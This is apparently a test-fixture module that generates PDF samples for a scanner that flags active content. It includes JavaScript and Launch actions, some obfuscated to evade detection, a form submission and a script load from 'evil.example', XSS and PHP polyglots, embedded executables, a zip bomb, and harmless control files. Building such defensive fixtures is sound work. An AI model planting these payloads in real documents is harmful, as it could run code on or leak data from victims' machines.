import { deflateSync } from 'node:zlib';
import { aes256 } from './aes-256';
import {
  listObject,
  listText,
  makeEncryptedPdf,
  makePackedPdf,
  makePdf,
  streamObject,
  updatedPdf,
} from './pdf';

/** A PDF that does this when it is opened. */
export const opening = (action: string) => makePdf({ catalog: `/OpenAction << ${action} >>` });
const object = (text: string) => makePdf({ objects: [`8 0 obj\n${text}\nendobj\n`] });
/** An action that a viewer runs as a script. */
export const scriptAction = '<< /S /JavaScript /JS (app.alert(1)) >>';
const annotation = (entries: string) => makePdf({ page: `/Annots [<< /Type /Annot ${entries} >>]` });
/** A file with something more behind its end. */
export const behind = (file: Buffer, more: string) => Buffer.concat([file, Buffer.from(more, 'latin1')]);
const inFront = (text: string) => makePdf({ version: `1.7\n${text}\n` });

/** PDFs that could do something when they are opened. */
export const activePdfs: Record<string, Buffer> = {
  'a script on opening': opening('/S /JavaScript /JS (app.alert(1))'),
  'a script whose name is in hex': opening('/S /J#61vaScrip#74 /#4aS (x)'),
  'a script behind comments and line ends': opening('/S%\r/S /AA\n/S\0%<<\n/JavaScript'),
  'a script without its long name': object('<< /JS 4 0 R >>'),
  'a script of a name tree': object('<< /Names [(a) << /S /JavaScript /JS <61> >>] >>'),
  'a script of a page': makePdf({ page: `/AA << /O ${scriptAction} >>` }),
  'a script behind a name of its own': makePdf({
    catalog: '/OpenAction << /S 8 0 R >>',
    objects: ['8 0 obj /JavaScript endobj\n'],
  }),
  'a program': opening('/S /Launch /F (cmd.exe)'),
  'a form that is sent': opening('/S /SubmitForm /F (https://evil.example/)'),
  'a form that is filled from a file': opening('/S /ImportData /F (\\\\\\\\host\\\\share)'),
  'a jump to another file': opening('/S /GoToR /F (\\\\\\\\10.0.0.1\\\\x.pdf) /D [0 /Fit]'),
  'a jump to an attached file': opening('/S /GoToE /T << /R /C >>'),
  'a form of XFA': makePdf({ catalog: '/AcroForm << /Fields [] /XFA 8 0 R >>' }),
  'a film': annotation('/Subtype /RichMedia /RichMediaContent 8 0 R'),
  'a film of before': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound': annotation('/Subtype /Sound /Sound 8 0 R'),
  'a screen': annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>'),
  'a model in 3D': annotation('/Subtype /3D /3DD 8 0 R'),
  'an attached file': makePdf({
    objects: [streamObject('8 0 obj', '/Type /EmbeddedFile', Buffer.from('MZ'))],
  }),
  'an attached file without a type': makePdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) << /F (a.exe) /EF << /F 8 0 R >> >>] >> >>',
    objects: [streamObject('8 0 obj', '', Buffer.from('MZ'))],
  }),
  'an attached file on the page': annotation('/Subtype /FileAttachment /FS 8 0 R'),
  'a link that is a script': annotation('/A << /S /URI /URI (java\\163cript:alert(1)) >>'),
  'a link that is a script, in hex': annotation(
    `/A << /S /URI /URI <${Buffer.from('javascript:x').toString('hex')}> >>`,
  ),
  'a link to a file of the computer': annotation('/A << /S /URI /URI (file:///c:/x.exe) >>'),
  'a script in a packed list': makePackedPdf({ more: [[7, scriptAction]] }),
  'a script in the catalog of a packed list': makePackedPdf({
    catalog: `/OpenAction ${scriptAction}`,
  }),
  'a script in a list without a type': makePdf({
    objects: [listObject([[7, scriptAction]], { type: '' })],
  }),
  'a script in a list that is not packed': makePdf({
    objects: [
      streamObject(
        '8 0 obj',
        `/Type /Obj#53tm /N 1 /First ${listText([[7, scriptAction]]).first}`,
        Buffer.from(listText([[7, scriptAction]]).text),
      ),
    ],
  }),
  'a script inside the content of a page': makePdf({
    drawing: `BT ET\n7 0 obj ${scriptAction} endobj`,
  }),
  'a script behind a number with a comment': makePdf({
    objects: [`7 0 % a comment\nobj ${scriptAction} endobj\n`],
  }),
  'a script in an update': updatedPdf(
    makePdf(),
    `3 0 obj << /Type /Page /AA << /O ${scriptAction} >> >> endobj\n`,
  ),
  'a script in the trailer': makePdf({ trailer: `/X ${scriptAction}` }),
  'a script behind the end': behind(makePdf(), `<< /OpenAction ${scriptAction} >>`),
  'a script that is encrypted with AES-256': aes256.withScript(),
  'a script that is encrypted with RC4': makeEncryptedPdf([[7, scriptAction]]),
  'a script that is encrypted with AES': makeEncryptedPdf([[7, scriptAction]], { aes: true }),
};

/** PDFs that are a page or an archive as well. */
export const secondKinds: Record<string, Buffer> = {
  'a page behind it': behind(makePdf(), '<html><script>alert(1)</script>'),
  'a page in its head': inFront('%<!DOCTYPE html><body>'),
  'a page in a string': object('<< /Title (<script src=//evil.example>) >>'),
  'a page of a picture': object('(<img src=x onerror=alert(1)>)'),
  'a page of a drawing': object('(<svg/onload=alert(1)>)'),
  'a PHP page': behind(makePdf(), '<?php system("id"); ?>'),
  'an archive': behind(makePdf(), `PK\x05\x06${'\0'.repeat(18)}`),
  'an archive with a false end': behind(makePdf(), `PK\x05\x06${'\0'.repeat(18)}PK\x05\x06`),
};

/** A packed list of objects. */
export const packedObject = (content: Buffer, entries = '/Filter /FlateDecode') =>
  streamObject('8 0 obj', `/Type /ObjStm /N 1 /First 4 ${entries}`, content);
const packed = (content: Buffer, entries?: string) => makePdf({ objects: [packedObject(content, entries)] });

/** PDFs that cannot be understood. */
export const brokenPdfs: Record<string, Buffer> = {
  'nothing but a head': Buffer.from('%PDF-1.7\n'),
  'cut off': makePdf().subarray(0, 300),
  'a dictionary without an end': object('<< /A << /B 1 >>'),
  'a list in a dictionary that never ends': object('<< /A [ >> /S /X >>'),
  'a packed list that cannot be unpacked': packed(Buffer.from([7, 7])),
  'a packed list that is a bomb': packed(deflateSync(Buffer.alloc(100 * 1024 * 1024))),
  'a list that is packed in another way': packed(Buffer.from('>'), '/Filter /ASCIIHexDecode'),
  'a list whose entries are there twice': packed(deflateSync(Buffer.from('7 0 1')), '/N 2'),
  'a list of a million objects': makePdf({
    objects: [streamObject('8 0 obj', '/Type /ObjStm /N 1000000 /First 4', Buffer.from('7 0 1'))],
  }),
};

/** PDFs as people have them. */
export const honestPdfs: Record<string, Buffer> = {
  'of one page': makePdf(),
  'of PDF 1.3': makePdf({ version: '1.3' }),
  'of PDF 2.0': makePdf({ version: '2.0' }),
  'with packed lists, as of LibreOffice, Chromium and iText': makePackedPdf(),
  'that was saved again': updatedPdf(makePdf(), '3 0 obj << /Type /Page >> endobj\n'),
  'with a link that ends in /JavaScript': annotation(
    '/Subtype /Link /A << /S /URI /URI (https://developer.mozilla.org/docs/Web/JavaScript) >>',
  ),
  'with a link that ends in /JavaScript, in a packed list': makePackedPdf({
    more: [[7, '<< /S /URI /URI (https://example.org/JavaScript) >>']],
  }),
  'with a page that is about /JavaScript': makePdf({
    drawing: 'BT (How to use /JavaScript, /JS \\(x\\), /Launch and /EmbeddedFile) Tj ET',
  }),
  'with a title about scripts': object('<< /Title (/S /JavaScript /JS) /Author (/Launch) >>'),
  'that opens at its first page': makePdf({ catalog: '/OpenAction [3 0 R /Fit]' }),
  'with a jump and a menu': opening('/S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >>'),
  'with an empty list of attachments': makePdf({
    catalog: '/Names << /EmbeddedFiles << /Names [] >> /JavaScript null >> /AcroForm << /XFA null >>',
  }),
  'with fields to fill in': makePdf({
    catalog: '/AcroForm << /Fields [8 0 R] /DA (/Helv 0 Tf) >>',
    objects: ['8 0 obj << /FT /Tx /T (Name) /V (/JavaScript) >> endobj\n'],
  }),
  'with a picture whose bytes look like a name': makePdf({
    objects: [streamObject('8 0 obj', '/Subtype /Image', Buffer.from('/JS (x) /S /JavaScript obj'))],
  }),
  'with its text as a font and structure': object(
    '<< /Type /Font /BaseFont /JSans /ToUnicode 4 0 R /S /Span /Widths [1 2 3] >>',
  ),
  'encrypted with AES-256, that opens without a password': aes256.harmless(),
  'encrypted, that opens without a password': makeEncryptedPdf([[7, '<< /Type /Font >>']]),
  'encrypted with AES, that opens without a password': makeEncryptedPdf(
    [[7, '<< /S /URI /URI (https://example.org/JavaScript) >>']],
    { aes: true },
  ),
};
